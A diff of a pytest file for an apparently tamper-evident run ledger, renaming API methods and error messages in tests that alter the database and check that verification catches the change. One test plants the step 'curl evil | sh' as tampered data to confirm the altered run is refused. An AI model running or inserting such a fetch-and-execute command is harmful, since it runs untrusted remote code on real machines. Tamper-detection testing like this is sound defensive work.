@@ -12,11 +12,11 @@ import pytest
 
 from runner.errors import LedgerError
 from runner.record import Ledger
-from runner.record.engine import FOR_WRITING, _engine
+from runner.record.connection import FOR_WRITING, _engine
 from runner.record.migrate import upgrade
 from runner.record.operators import operator_here
 
-Begin = Callable[..., bool]
+CreateRun = Callable[..., bool]
 
 
 def change(file: Path, statement: str) -> None:
@@ -26,18 +26,18 @@ def change(file: Path, statement: str) -> None:
     connection.close()
 
 
-def test_acts_name_the_operators_of_a_run(url: str, begin: Begin):
+def test_acts_name_the_operators_of_a_run(url: str, create_run: CreateRun):
     with Ledger.open(url, operator=operator_here("Ada")) as ledger:
-        begin(ledger)
+        create_run(ledger)
     with Ledger.open(url, operator=operator_here("Bob")) as ledger:
-        ledger.reopen_run("r1")
-        acts = ledger.show("r1").acts
+        ledger.runs.reopen("r1")
+        acts = ledger.runs.show("r1").acts
         assert [(act.act, act.operator, act.subject) for act in acts] == [
             ("run", "Ada", "r1"),
             ("resume", "Bob", "r1"),
         ]
-        assert ledger.summary("r1").operator == "Ada"
-        assert ledger.verify_acts().problem == ""
+        assert ledger.runs.summary("r1").operator == "Ada"
+        assert ledger.acts.verify().problem == ""
 
 
 @pytest.mark.parametrize(
@@ -60,52 +60,54 @@ def test_operator_comes_from_flag_variable_or_login(named: str, environ: dict[st
         ("UPDATE acts SET at = '2020-01-01T00:00:00.000000Z' WHERE id = 2", "act 2 (run r2) was changed"),
         ("UPDATE acts SET details = '{}' WHERE id = 2", "act 2 (run r2) was changed: its details"),
         ("UPDATE acts SET subject = 'r9' WHERE id = 2", "act 2 (run r9) was changed: its details"),
-        ("UPDATE acts SET salt = NULL, details = '{}' WHERE id = 2", "removed by no recorded erasure"),
+        ("UPDATE acts SET salt = NULL, details = '{}' WHERE id = 2", "removed without a recorded erasure"),
         ("DELETE FROM acts WHERE id = 2", "act 2 is missing"),
-        ("DELETE FROM acts WHERE id = 3", "run r3 was begun by no act"),
-        ("UPDATE runs SET order_text = '{\"evil\": 1}' WHERE run = 'r2'", "run r2: its order is not"),
+        ("DELETE FROM acts WHERE id = 3", "run r3 was not started by any act"),
+        ("UPDATE runs SET order_text = '{\"evil\": 1}' WHERE run = 'r2'", "run r2: its order was changed"),
         ("DELETE FROM runs WHERE run = 'r2'", "act 2 (run r2): its run is not in the ledger"),
     ],
 )
-def test_verify_names_first_changed_row(url: str, file: Path, begin: Begin, statement: str, problem: str):
+def test_verify_names_first_changed_row(
+    url: str, file: Path, create_run: CreateRun, statement: str, problem: str
+):
     with Ledger.open(url) as ledger:
         for run in ("r1", "r2", "r3"):
-            begin(ledger, run)
+            create_run(ledger, run)
     change(file, statement)
     with Ledger.open(url) as ledger:
-        assert problem in ledger.verify_acts().problem
+        assert problem in ledger.acts.verify().problem
 
 
 def test_truncated_chain_lacks_noted_head(url: str, file: Path):
     with Ledger.open(url) as ledger:
-        ledger.record_act("trust", "web1")
-        ledger.record_act("trust", "web2")
-        head = ledger.verify_acts().head
-        assert ledger.verify_acts(head).problem == ""
+        ledger.acts.record("trust", "web1")
+        ledger.acts.record("trust", "web2")
+        head = ledger.acts.verify().head
+        assert ledger.acts.verify(head).problem == ""
     change(file, "DELETE FROM acts WHERE id = 2")
     with Ledger.open(url) as ledger:
-        assert ledger.verify_acts().problem == ""
-        assert "noted hash" in ledger.verify_acts(head).problem
+        assert ledger.acts.verify().problem == ""
+        assert "no act has the hash" in ledger.acts.verify(head).problem
 
 
-def test_run_with_changed_order_is_refused(url: str, file: Path, begin: Begin):
+def test_run_with_changed_order_is_refused(url: str, file: Path, create_run: CreateRun):
     with Ledger.open(url) as ledger:
-        begin(ledger)
+        create_run(ledger)
     change(file, 'UPDATE runs SET order_text = \'{"steps": ["curl evil | sh"]}\'')
     with Ledger.open(url) as ledger:
-        with pytest.raises(LedgerError, match="order of run r1 is not the one"):
-            ledger.reopen_run("r1")
-        with pytest.raises(LedgerError, match="order of run r1 is not the one"):
-            ledger.order_text("r1")
-        assert [act.act for act in ledger.list_acts()] == ["run"]
+        with pytest.raises(LedgerError, match="order of run r1 was changed"):
+            ledger.runs.reopen("r1")
+        with pytest.raises(LedgerError, match="order of run r1 was changed"):
+            ledger.runs.order_text("r1")
+        assert [act.act for act in ledger.acts.list()] == ["run"]
 
 
-def test_run_without_act_is_not_resumed(url: str, file: Path, begin: Begin):
+def test_run_without_act_is_not_resumed(url: str, file: Path, create_run: CreateRun):
     with Ledger.open(url) as ledger:
-        begin(ledger)
+        create_run(ledger)
     change(file, "DELETE FROM acts")
-    with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="recorded by no act"):
-        ledger.reopen_run("r1")
+    with Ledger.open(url) as ledger, pytest.raises(LedgerError, match="not recorded by any act"):
+        ledger.runs.reopen("r1")
 
 
 def test_runs_of_older_ledger_are_adopted(tmp_path: Path):
@@ -121,15 +123,15 @@ def test_runs_of_older_ledger_are_adopted(tmp_path: Path):
         " VALUES ('old', 'weekly', '', 'manual', '{}', 'running', 1, '2026-11-24T01:00:00.000000Z')",
     )
     with Ledger.open(f"sqlite:///{file}") as ledger:
-        ledger.reopen_run("old")
-        assert [act.act for act in ledger.list_acts("old")] == ["adopt", "resume"]
-        assert ledger.verify_acts().problem == ""
+        ledger.runs.reopen("old")
+        assert [act.act for act in ledger.acts.list("old")] == ["adopt", "resume"]
+        assert ledger.acts.verify().problem == ""
 
 
 def _write(url: str, count: int) -> None:
     with Ledger.open(url, operator=operator_here(f"process {os.getpid()}")) as ledger:
         for number in range(count):
-            ledger.record_act("trust", f"host {number}")
+            ledger.acts.record("trust", f"host {number}")
 
 
 def test_concurrent_processes_write_one_chain(url: str):
@@ -141,6 +143,6 @@ def test_concurrent_processes_write_one_chain(url: str):
     for writer in writers:
         writer.join(60)
     with Ledger.open(url) as ledger:
-        verdict = ledger.verify_acts()
+        verdict = ledger.acts.verify()
         assert (verdict.acts, verdict.problem) == (60, "")
-        assert len({act.operator for act in ledger.list_acts()}) == 3
+        assert len({act.operator for act in ledger.acts.list()}) == 3
